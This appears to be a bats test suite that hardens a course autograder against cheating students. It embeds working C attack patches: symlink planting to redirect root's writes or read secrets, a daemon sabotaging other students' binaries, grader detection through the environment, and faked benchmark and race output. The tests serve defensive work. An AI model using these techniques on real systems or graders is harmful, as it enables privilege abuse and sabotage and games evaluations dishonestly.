#!/usr/bin/env bats
# grade-attacks.slow.bats -- the grader against a clever student (slow
# tier: `make test-slow`, and CI).
#
# Each check builds an attack as a student kit -- a small patch on a copy
# of this kit -- grades it on the few checks the attack is about, and
# shows that it scores nothing on what it fakes, with the reason on the
# grade line, and that it changes nothing outside its own score: no file
# of root's written through a link, no other student's files or
# processes reached, every Gradescope submission given a results.json.
#
# The uid parts (a user per grading run, root never writing where that
# user can) are what is under test: most checks need root and skip with
# one line when not.  Each runs with and without a pids cgroup where it
# matters (CONKIT_NO_CGROUP=1: a container that has none).

bats_require_minimum_version 1.5.0
load ../checks/lib/common
# the pristine kit (copy_kit), grade, the points table's lines
load grade

need_root() {
    [ "$(id -u)" -eq 0 ] ||
        skip "needs root: the student's code runs as its own user only then"
}

# patch_c FILE: append the C on stdin to a program's source (a student's
# "small patch": e.g. a constructor that runs before main).
patch_c() {
    cat >>"$1"
}

# bank_lock_only_if KIT LINE: bank's transaction lock is taken only where
# the preprocessor line LINE (#ifdef NAME, #if ...) holds, and is nothing
# otherwise.
bank_lock_only_if() {
    sed -i -e "/^ *TURNSTILE_\(UN\)\{0,1\}LOCK(&transaction_lock,/{
                   i $2
                   a #else\n        (void)&transaction_lock;\n#endif
               }" "$1/labs/lab8/bank.c"
    [ "$(grep -cxF -- "$2" "$1/labs/lab8/bank.c")" -eq 2 ]
}

# users_of OUT: the grading users the grade.json files under OUT name.
users_of() {
    find "$1" -name grade.json -exec jq -r '.limits.user' {} + | sort -u
}

# assert_user_gone USER: no process of USER runs (a zombie, dead and not
# yet reaped by a parent that never will -- pid 1 of a container or of
# this machine -- runs nothing), and it owns nothing in the shared
# temporary folders.
assert_user_gone() {
    local left
    left="$(ps -U "$1" -o pid=,stat=,args= 2>/dev/null |
        awk '$2 !~ /^Z/' || true)"
    [ -z "$left" ] || fail "$1 still runs: $left"
    left="$(find /tmp /var/tmp /dev/shm -xdev -user "$1" 2>/dev/null | head -n 3)"
    [ -z "$left" ] || fail "$1 left files: $left"
}

LAB2_HELP="io_sync: --help lists every option and exits 0"
LAB2_TRACE="io_sync: --trace writes one row per download"
LAB2_ALL="io_sync: every download of the default list succeeds with the right byte counts"

# serial: it checks that the grading users it had run nothing afterwards;
# a grader in another file beside it may take the same user at once
# bats test_tags=serial
@test "attack: links planted in every folder the student's user can write never redirect a write or a read of root's" {
    need_root
    local copy canary secret before
    # what root must never write (a file of root's, as a target) nor
    # read for the student (a secret only root may read)
    canary="$(mktemp -d /tmp/conkit-canary.XXXXXX)"
    chmod 755 "$canary"
    echo "canary" >"$canary/file"
    echo "SECRET-$RANDOM$RANDOM" >"$canary/secret"
    chmod 600 "$canary/secret"
    secret="$(cat "$canary/secret")"
    copy="$(copy_kit links)"
    # io_sync plants, before main, a link named after each file the
    # grader keeps in every folder it can write or guess (its arguments'
    # folders and theirs above, its working folder, TMPDIR), pointing at
    # the canary; at exit its --trace file becomes a link to the secret
    sed -e "s|@CANARY@|$canary/file|" -e "s|@SECRET@|$canary/secret|" \
        <<'EOF' | patch_c "$copy/labs/lab2/io_sync.c"
#include <libgen.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <limits.h>
static char attack_trace[PATH_MAX];
static void attack_plant(const char *dir)
{
    static const char *names[] = {
        "kit.times", "kit.pid", "kit.outputs", "out", "err", "tsan.err",
        "t.csv", "sites.txt", "https.txt", "limit-notes", "report.xml",
        "build.log", "grade.json", NULL
    };
    char path[PATH_MAX];
    if (strcmp(dir, "/") == 0 || strcmp(dir, "/tmp") == 0)
        return;                 /* never the machine's shared folders */
    for (int i = 0; names[i]; i++) {
        snprintf(path, sizeof path, "%s/%s", dir, names[i]);
        unlink(path);
        if (symlink("@CANARY@", path) != 0)
            continue;
    }
    for (int pid = getpid() - 64; pid < getpid() + 64; pid++) {
        snprintf(path, sizeof path, "%s/limit-notes.%d", dir, pid);
        if (symlink("@CANARY@", path) != 0)
            break;
    }
}
static void attack_up(const char *start)
{
    char dir[PATH_MAX];
    snprintf(dir, sizeof dir, "%s", start);
    while (strlen(dir) > 1) {
        attack_plant(dir);
        snprintf(dir, sizeof dir, "%s", dirname(dir));
    }
}
static void attack_exit(void)
{
    if (attack_trace[0]) {
        unlink(attack_trace);
        if (symlink("@SECRET@", attack_trace) != 0)
            return;
    }
}
__attribute__((constructor)) static void attack(int argc, char **argv)
{
    char cwd[PATH_MAX], copy[PATH_MAX];
    for (int i = 0; i < argc; i++) {
        if (strcmp(argv[i], "--trace") == 0 && i + 1 < argc)
            snprintf(attack_trace, sizeof attack_trace, "%s", argv[i + 1]);
        if (argv[i][0] == '/') {
            snprintf(copy, sizeof copy, "%s", argv[i]);
            attack_up(dirname(copy));
        }
    }
    if (getcwd(cwd, sizeof cwd))
        attack_up(cwd);
    if (getenv("TMPDIR"))
        attack_up(getenv("TMPDIR"));
    atexit(attack_exit);
}
EOF
    grade_check "$copy" lab2 "$LAB2_HELP" "$LAB2_TRACE" "$LAB2_ALL"
    # the canary is as it was: no write of root's went through a link
    assert_equal "$(cat "$canary/file")" canary
    # the secret reached no output of the grader's
    ! grep -rqF "$secret" "$BATS_TEST_TMPDIR/out" ||
        fail "the secret is in: $(grep -rlF "$secret" "$BATS_TEST_TMPDIR/out")"
    # the checks the links do not touch pass; the trace, a link to a file
    # the student cannot read, is no trace
    assert_line --regexp "^lab2: $(regex_quote "$LAB2_HELP"): OK"
    assert_line --regexp "^lab2: $(regex_quote "$LAB2_ALL"): OK"
    assert_line --regexp "^lab2: $(regex_quote "$LAB2_TRACE"): FAIL"
    local user
    for user in $(users_of "$BATS_TEST_TMPDIR/out"); do
        assert_user_gone "$user"
    done
    rm -rf "$canary"
}

# attacker_kit DIR ROOT: a kit whose io_sync, run with --help, leaves a
# daemon behind (its own session, a clean environment and a forged
# grader's mark, so no mark finds it) that for 100 s replaces every
# other io_sync it finds under ROOT/conkit-grade.*/kit/ -- the other
# students' programs, graded beside or after it -- with one that fails;
# every run of it tries so once too, and the --help run for 25 s.
attacker_kit() {
    sed "s|@ROOT@|$2|" <<'EOF' | patch_c "$1/labs/lab2/io_sync.c"
#include <fcntl.h>
#include <glob.h>
#include <limits.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
static void attack_others(int rounds)
{
    char self[PATH_MAX] = "";
    if (!realpath("/proc/self/exe", self))
        self[0] = 0;
    for (int round = 0; round < rounds; round++) {
        glob_t found;
        if (glob("@ROOT@/conkit-grade.*/kit/io_sync", 0, NULL, &found) == 0) {
            for (size_t i = 0; i < found.gl_pathc; i++) {
                const char *path = found.gl_pathv[i];
                static const char fake[] = "#!/bin/sh\nexit 3\n";
                int fd;
                if (strcmp(path, self) == 0)
                    continue;
                fd = open(path, O_WRONLY | O_TRUNC);
                if (fd >= 0) {
                    if (write(fd, fake, sizeof fake - 1) < 0)
                        break;
                    close(fd);
                }
            }
            globfree(&found);
        }
        usleep(100000);
    }
}
__attribute__((constructor)) static void attack(int argc, char **argv)
{
    int help = 0;
    for (int i = 1; i < argc; i++)
        help |= strcmp(argv[i], "--help") == 0;
    attack_others(help ? 250 : 1);     /* --help: waits 25 s for others */
    if (!help || fork() != 0)
        return;
    setsid();
    if (fork() != 0)
        _exit(0);
    clearenv();
    setenv("CONKIT_GRADE_RUN", "1.2.3", 1);
    for (int fd = 0; fd < 64; fd++)
        close(fd);
    attack_others(1000);
    _exit(0);
}
EOF
}

# serial: it checks that the grading users it had run nothing afterwards;
# a grader in another file beside it may take the same user at once
# bats test_tags=serial
@test "attack: a student's program and its daemon reach no other student in grade --class --jobs 2, with or without a pids cgroup" {
    need_root
    local class="$BATS_TEST_TMPDIR/class" cgroup out user
    mkdir -p "$class"
    copy_kit a-attacker "$class" >/dev/null
    attacker_kit "$class/a-attacker" "$GRADE_TMP"
    # built already: its checks run as early as the others'
    make -C "$class/a-attacker" --no-print-directory io_sync >/dev/null 2>&1
    copy_kit b-victim "$class" >/dev/null
    copy_kit c-victim "$class" >/dev/null
    TABLE="$(points_table lab2 "$LAB2_HELP" "$LAB2_ALL")"
    for cgroup in yes no; do
        out="$BATS_TEST_TMPDIR/out-$cgroup"
        if [ "$cgroup" = yes ]; then
            run --separate-stderr grade --class "$class" --jobs 2 \
                --points "$TABLE" --out "$out"
        else
            CONKIT_NO_CGROUP=1 run --separate-stderr grade --class "$class" \
                --jobs 2 --points "$TABLE" --out "$out"
        fi
        assert_success
        # each victim scores what it scores alone: full marks
        grep -q '^"b-victim",3,3,' "$out/class.csv" ||
            fail "b-victim ($cgroup cgroup): $(cat "$out/class.csv" "$out/b-victim/grade.txt")"
        grep -q '^"c-victim",3,3,' "$out/class.csv" ||
            fail "c-victim ($cgroup cgroup): $(cat "$out/class.csv" "$out/c-victim/grade.txt")"
        grep -q '^"a-attacker",3,3,' "$out/class.csv"
        # two at once, two users (a slot's user is used again only after
        # its grader swept it); nothing of any of them is left
        [ "$(users_of "$out" | wc -l)" -ge 2 ] ||
            fail "users: $(users_of "$out")"
        for user in $(users_of "$out"); do
            assert_user_gone "$user"
        done
    done
}

@test "attack: a submission that would stop the autograder (a file for a folder, links, a huge file, a folder for the Makefile) gets results.json: 0 and the reason" {
    local root="$BATS_TEST_TMPDIR/autograder" kind results
    mkdir -p "$root"
    "$KIT/scripts/grader/gradescope/bundle" "$BATS_TEST_TMPDIR/autograder.zip" >/dev/null
    unzip -q "$BATS_TEST_TMPDIR/autograder.zip" -d "$root/source"
    for kind in file-for-folder link huge folder-for-makefile fifo; do
        rm -rf "$root/submission" "$root/results"
        mkdir -p "$root/submission/labs/lab2"
        cp "$KIT/labs/lab2/io_sync.c" "$root/submission/labs/lab2/"
        case "$kind" in
        file-for-folder) echo "not a folder" >"$root/submission/common" ;;
        link) ln -s /etc/shadow "$root/submission/labs/lab2/notes.txt" ;;
        huge) truncate -s 80M "$root/submission/labs/lab2/data.bin" ;;
        folder-for-makefile) mkdir "$root/submission/Makefile" ;;
        fifo) mkfifo "$root/submission/labs/lab2/pipe" ;;
        esac
        AUTOGRADER_ROOT="$root" GRADE_ARGS="lab2" \
            run timeout -k 5 300 "$root/source/run_autograder"
        assert_success
        results="$root/results/results.json"
        [ -f "$results" ] || fail "$kind: no results.json: $output"
        run jq -r '[.score, (.tests | length), (.execution_time | type)]
            | @tsv' "$results"
        assert_output "$(printf '0\t0\tnumber')"
        run jq -r .output "$results"
        case "$kind" in
        file-for-folder) assert_output --partial "'common' is a file where the kit has a folder" ;;
        link | fifo) assert_output --partial "links or special files are not accepted" ;;
        huge) assert_output --partial "the submission holds" ;;
        folder-for-makefile) assert_output --partial "'Makefile' is a folder where the kit has a file" ;;
        esac
    done
}

@test "attack: serial programs that print a divided timer earn nothing on the speed-up check (lab 9)" {
    local copy program
    copy="$(copy_kit timer)"
    # scrape_threads and scrape_async: scrape_sync's serial loop under
    # their names, whose printed time is a fifth of the time they took
    for program in scrape_threads scrape_async; do
        sed -e "s/\"scrape_sync\"/\"$program\"/" \
            -e 's/^    return scrape_finish(&settings, results, &timer);/    timer.start_us += (int64_t)(timer_seconds(\&timer) * 0.8e6);\n&/' \
            "$copy/labs/lab9/scrape_sync.c" >"$copy/labs/lab9/$program.c"
        grep -q 'timer.start_us +=' "$copy/labs/lab9/$program.c"
    done
    grade_check "$copy" lab9 "scrape_threads and scrape_async: at least 3x faster than scrape_sync (graded)"
    assert_failure
    assert_line --regexp '^lab9: scrape_threads and scrape_async: at least 3x faster than scrape_sync \(graded\): FAIL \(0/3\) \(.*measured [0-9.]+ against [0-9.]+: not 3x'
    assert_line "Score: 0/3"
}

@test "attack: a lock that is real only in the student's own ThreadSanitizer build earns nothing under ThreadSanitizer (lab 8)" {
    local copy
    copy="$(copy_kit tsan)"
    # bank's lock does nothing, unless built with -DREAL_LOCK, which the
    # student's Makefile adds to its SAN=thread build only
    bank_lock_only_if "$copy" '#ifdef REAL_LOCK'
    sed -i 's/^  CFLAGS += -fsanitize=thread -fno-omit-frame-pointer$/& -DREAL_LOCK/' \
        "$copy/Makefile"
    grep -q -- '-DREAL_LOCK' "$copy/Makefile"
    grade_check "$copy" lab8 "bank under ThreadSanitizer: the locked runs are clean (graded)"
    assert_line --regexp '^lab8: bank under ThreadSanitizer: the locked runs are clean \(graded\): FAIL \(0/2\) \[task lab8\.transfer\] \(ThreadSanitizer \(the grader.s build\) found a data race'
    assert_line "Tasks: 0/2"
}

@test "attack: a lock that is real only when compiled with ThreadSanitizer (the compiler's own macro) earns nothing: the plain build must do what the sanitized one did (lab 8)" {
    local copy
    copy="$(copy_kit sanitized)"
    # bank's lock is taken only in a build with -fsanitize=thread, which
    # defines __SANITIZE_THREAD__: the grader's own TSan build too
    bank_lock_only_if "$copy" '#if defined(__SANITIZE_THREAD__)'
    grade_check "$copy" lab8 "bank under ThreadSanitizer: the locked runs are clean (graded)"
    assert_line --regexp '^lab8: bank under ThreadSanitizer: the locked runs are clean \(graded\): FAIL \(0/2\) \[task lab8\.transfer\] \(.*bank --mode threads --lock mutex: the plain build ended otherwise than the grader.s ThreadSanitizer build'
    assert_line "Tasks: 0/2"
}

@test "attack: a lock that is real only under --explore and --schedule earns nothing on the proof by exhaustion (lab 7)" {
    local copy
    copy="$(copy_kit turnstile)"
    # race_condition's mutex is taken only when the turnstile orders the
    # steps: --explore proves it exact, free threads lose updates
    sed -i -e 's|^        TURNSTILE_LOCK(&counter_lock, "take lock");$|        if (turnstile_on) { TURNSTILE_LOCK(\&counter_lock, "take lock"); }|' \
        -e 's|^        TURNSTILE_UNLOCK(&counter_lock, "release lock");$|        if (turnstile_on) { TURNSTILE_UNLOCK(\&counter_lock, "release lock"); }|' \
        "$copy/labs/lab7/race_condition.c"
    [ "$(grep -c 'if (turnstile_on) { TURNSTILE_' "$copy/labs/lab7/race_condition.c")" -eq 2 ]
    grade_check "$copy" lab7 "race_condition --explore --lock mutex: no schedule loses an update, proved by exhaustion (graded)"
    assert_line --regexp '^lab7: race_condition --explore --lock mutex: no schedule loses an update, proved by exhaustion \(graded\): FAIL \(0/3\) \[task lab7\.mutex\] \(.*race_condition --lock mutex: no schedule of --explore lost an update, yet a plain run without them counted [0-9]+ of 2000000'
    assert_line "Tasks: 0/3"
}

@test "attack: a program that prints lost updates without two threads racing earns nothing on the lost-update check (lab 7)" {
    local copy
    copy="$(copy_kit printer)"
    # race_condition --lock none, run freely, prints a count a little
    # short of what it was asked for, as a race would leave it, and the
    # timer, without starting a thread
    cat <<'EOF' | patch_c "$copy/labs/lab7/race_condition.c"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
__attribute__((constructor)) static void fake_race(int argc, char **argv)
{
    long threads = 2, increments = 1000000;
    int none = 0;
    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--schedule") == 0 ||
            strcmp(argv[i], "--explore") == 0)
            return;
        if (i + 1 < argc && strcmp(argv[i], "--lock") == 0)
            none = strcmp(argv[i + 1], "none") == 0;
        if (i + 1 < argc && strcmp(argv[i], "--threads") == 0)
            threads = atol(argv[i + 1]);
        if (i + 1 < argc && strcmp(argv[i], "--increments") == 0)
            increments = atol(argv[i + 1]);
    }
    if (!none)
        return;
    srand((unsigned)time(NULL));
    long expected = threads * increments, lost = 1 + rand() % 5000;
    printf("counter=%ld expected=%ld lost=%ld\n", expected - lost,
           expected, lost);
    printf("Execution time: 0.41s\n");
    exit(0);
}
EOF
    grade_check "$copy" lab7 "race_condition: --lock none loses updates in at least 18 of 20 runs (graded)"
    assert_line --regexp '^lab7: race_condition: --lock none loses updates in at least 18 of 20 runs \(graded\): FAIL \(0/3\) \(.*race_condition --lock none: printed lost updates, but the grader.s ThreadSanitizer build saw no two threads touch the counter at once'
    assert_line "Score: 0/3"
}

@test "attack: a program that resets the simulator's counts and replays a cheap run earns nothing on what the counts judge (lab 2)" {
    local copy
    copy="$(copy_kit replay)"
    # --no-session is ignored (one connection for all); at exit, with
    # --no-session, it resets /stats and opens 20 cheap connections of
    # one request each: the counts --no-session is judged by
    sed -i 's/settings->no_session/0/g' "$copy/labs/lab2/io_sync.c"
    cat <<'EOF' | patch_c "$copy/labs/lab2/io_sync.c"
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <netinet/in.h>
#include <sys/socket.h>
static void replay_get(const char *path)
{
    struct sockaddr_in to = { .sin_family = AF_INET };
    char request[256], buffer[4096];
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    to.sin_port = htons((unsigned short)atoi(getenv("CONKIT_HTTP_PORT")));
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to) != 0)
        return;
    snprintf(request, sizeof request, "GET %s HTTP/1.1\r\nHost: x\r\n"
             "Connection: close\r\n\r\n", path);
    if (write(fd, request, strlen(request)) > 0)
        while (read(fd, buffer, sizeof buffer) > 0)
            ;
    close(fd);
}
static void replay(void)
{
    replay_get("/stats/reset");
    for (int i = 0; i < 20; i++)
        replay_get("/dice");
}
__attribute__((constructor)) static void replay_arm(int argc, char **argv)
{
    for (int i = 1; i < argc; i++)
        if (strcmp(argv[i], "--no-session") == 0 && getenv("CONKIT_HTTP_PORT"))
            atexit(replay);
}
EOF
    grade_check "$copy" lab2 "io_sync: --no-session opens one connection per download"
    assert_line --regexp '^lab2: io_sync: --no-session opens one connection per download: FAIL \(0/1\)'
    assert_line "Score: 0/1"
}

@test "attack: HEADs, Range requests and downloads dropped after the head, printed as full downloads, earn nothing on the download check (lab 2)" {
    local copy
    copy="$(copy_kit head)"
    # io_sync downloads one site in ten; of the rest, a third ask for a
    # Range, the others are HEADs or (plain HTTP) a GET on a socket of
    # its own that reads the head only and closes, the body unread; each
    # prints the body's size, from Content-Length, as a download
    sed -i 's|^    CURLcode result = curl_easy_perform(session);   /\* blocks: we wait \*/$|    static int cheat_n;\
    size_t cheat_head_only(const char *url);\
    int cheat = cheat_n++ % 10;\
    if (cheat >= 4 \&\& strncmp(url, "http:", 5) == 0) {\
        *bytes = cheat_head_only(url);\
        return "ok";\
    }\
    curl_easy_setopt(session, CURLOPT_NOBODY, (long)(cheat >= 4));\
    if (cheat < 4)\
        curl_easy_setopt(session, CURLOPT_HTTPGET, 1L);\
    curl_easy_setopt(session, CURLOPT_RANGE, cheat >= 1 \&\& cheat <= 3 ? "0-0" : NULL);\
    CURLcode result = curl_easy_perform(session);\
    if (cheat) {\
        curl_off_t length = -1;\
        curl_easy_getinfo(session, CURLINFO_CONTENT_LENGTH_DOWNLOAD_T, \&length);\
        *bytes = length > 0 ? (size_t)length : 0;\
    }|' "$copy/labs/lab2/io_sync.c"
    grep -q 'cheat_head_only(url)' "$copy/labs/lab2/io_sync.c"
    cat <<'EOF' | patch_c "$copy/labs/lab2/io_sync.c"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>
size_t cheat_head_only(const char *url)
{
    struct sockaddr_in to = { .sin_family = AF_INET };
    char request[512], head[4096];
    const char *port = strrchr(url, ':'), *path = strchr(url + 7, '/');
    size_t got = 0, length = 0;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    to.sin_port = htons((unsigned short)atoi(port + 1));
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to) != 0)
        return 0;
    snprintf(request, sizeof request, "GET %s HTTP/1.1\r\nHost: x\r\n\r\n",
             path);
    if (write(fd, request, strlen(request)) < 0)
        return 0;
    /* a byte at a time: not one byte of the body is read */
    while (got < sizeof head - 1 && read(fd, head + got, 1) == 1) {
        head[++got] = 0;
        if (got >= 4 && strcmp(head + got - 4, "\r\n\r\n") == 0)
            break;
    }
    for (char *line = head; line; line = strchr(line + 1, '\n'))
        if (strncasecmp(line + 1, "Content-Length:", 15) == 0)
            length = strtoul(line + 16, NULL, 10);
    usleep(20000);              /* the body is in: drop it unread */
    close(fd);
    return length;
}
EOF
    grade_check "$copy" lab2 "$LAB2_HELP" "$LAB2_ALL"
    assert_line --regexp "^lab2: $(regex_quote "$LAB2_HELP"): OK"
    assert_line --regexp "^lab2: $(regex_quote "$LAB2_ALL"): FAIL \(0/2\) \(io_sync: printed 50 /[a-z]+ downloads, the simulator served [0-9]+ \(and [0-9]+ [a-z]+(, [0-9]+ [a-z]+)*: no downloads\)"
    assert_line "Score: 1/3"
}

@test "attack: a program that looks for the grader in its environment finds nothing, with or without a pids cgroup" {
    need_root
    local copy cgroup
    copy="$(copy_kit detect)"
    # io_sync --help fails when its environment names anything of the
    # grader's: it would behave differently when graded
    cat <<'EOF' | patch_c "$copy/labs/lab2/io_sync.c"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
extern char **environ;
__attribute__((constructor)) static void detect(int argc, char **argv)
{
    static const char *marks[] = { "KIT_", "BATS_", "CONKIT_LIMIT",
        "CONKIT_GRADE", "CONKIT_CGROUP", "SIM_STATS_KEY", "CONKIT_STATS",
        NULL };
    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--help") != 0)
            continue;
        for (char **e = environ; *e; e++)
            for (int m = 0; marks[m]; m++)
                if (strncmp(*e, marks[m], strlen(marks[m])) == 0) {
                    printf("graded: %s\n", *e);
                    exit(1);
                }
        /* and its parent's (timeout, or whatever limit left readable) */
        char path[64], env[65536];
        snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
        FILE *f = fopen(path, "r");
        size_t n = f ? fread(env, 1, sizeof env - 1, f) : 0;
        if (f)
            fclose(f);
        for (size_t at = 0; at < n; at += strlen(env + at) + 1) {
            env[n] = 0;
            for (int m = 0; marks[m]; m++)
                if (strncmp(env + at, marks[m], strlen(marks[m])) == 0) {
                    printf("graded (parent): %s\n", env + at);
                    exit(1);
                }
        }
    }
}
EOF
    TABLE="$(points_table lab2 "$LAB2_HELP")"
    # without a cgroup, limit finds what a run left by its user's uid,
    # never by a mark the program could read (or forge)
    for cgroup in yes no; do
        if [ "$cgroup" = yes ]; then
            run --separate-stderr grade --kit "$copy" --points "$TABLE" lab2
        else
            CONKIT_NO_CGROUP=1 run --separate-stderr grade --kit "$copy" \
                --points "$TABLE" lab2
        fi
        assert_success
        assert_line --regexp "^lab2: io_sync: --help lists every option and exits 0: OK"
    done
}

@test "attack: idle threads beside one that works, a burst to lift the peak, a baseline slowed as the check runs it: nothing on lab 3's concurrency checks" {
    local copy
    copy="$(copy_kit idle)"
    # io_threads: each worker but the first takes one download (a burst
    # at the start), then idles until the first has done all the rest
    sed -i -e 's/^static void \*worker_main(void \*arg)$/static volatile int cheat_over;\n&/' \
        -e 's/^    while (take_next(pool, &index)) {$/    int cheat_taken = 0;\n    while ((worker->index == 0 || cheat_taken++ < 1) \&\& take_next(pool, \&index)) {/' \
        -e 's|^    return NULL;        /\* session_free() runs now for this thread \*/$|    if (worker->index == 0)\n        cheat_over = 1;\n    while (!cheat_over)\n        sleep_us(2000);\n&|' \
        "$copy/labs/lab3/io_threads.c"
    grep -q 'cheat_taken++' "$copy/labs/lab3/io_threads.c"
    grep -q 'sleep_us(2000)' "$copy/labs/lab3/io_threads.c"
    # io_sync: 10 s slower when run exactly as the speed check runs it
    cat <<'EOF' | patch_c "$copy/labs/lab2/io_sync.c"
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void slow_baseline(int argc, char **argv)
{
    if (argc == 2 && strcmp(argv[1], "-q") == 0)
        sleep(10);
}
EOF
    grade_check "$copy" lab3 "io_threads: uses exactly --workers threads" \
        "io_threads: is at least 3x faster than io_sync at 40 ms latency"
    assert_line --regexp '^lab3: io_threads: uses exactly --workers threads: FAIL \(0/2\)'
    assert_line --regexp '^lab3: io_threads: is at least 3x faster than io_sync at 40 ms latency: FAIL \(0/3\) \[task lab3\.pool\] \(.*(requests were in flight on average|measured)'
    assert_line "Tasks: 0/5"     # (both checks are task lab3.pool's)
}

@test "attack: an answers file that is a link to a file of root's is read as the student, never by root (lab 7)" {
    need_root
    local copy secret
    secret="$(mktemp -d /tmp/conkit-secret.XXXXXX)"
    chmod 755 "$secret"
    printf 'losing=SECRET\ncount-2x3=1\n' >"$secret/answers"
    chmod 600 "$secret/answers"
    copy="$(copy_kit answers)"
    ln -sfn "$secret/answers" "$copy/labs/lab7/answers.txt"
    grade_check "$copy" lab7 "race_condition: labs/lab7/answers.txt holds a losing schedule found by hand and the predicted count for 2 threads x 3 increments (graded)"
    rm -rf "$secret"
    # the student's user cannot read it: for the grader there is no file
    assert_line --regexp '^lab7: race_condition: labs/lab7/answers.txt .*: FAIL \(0/3\)'
    ! grep -rq SECRET "$BATS_TEST_TMPDIR/out" ||
        fail "root read the file: $(grep -r SECRET "$BATS_TEST_TMPDIR/out")"
}
# SPDX-License-Identifier: MIT
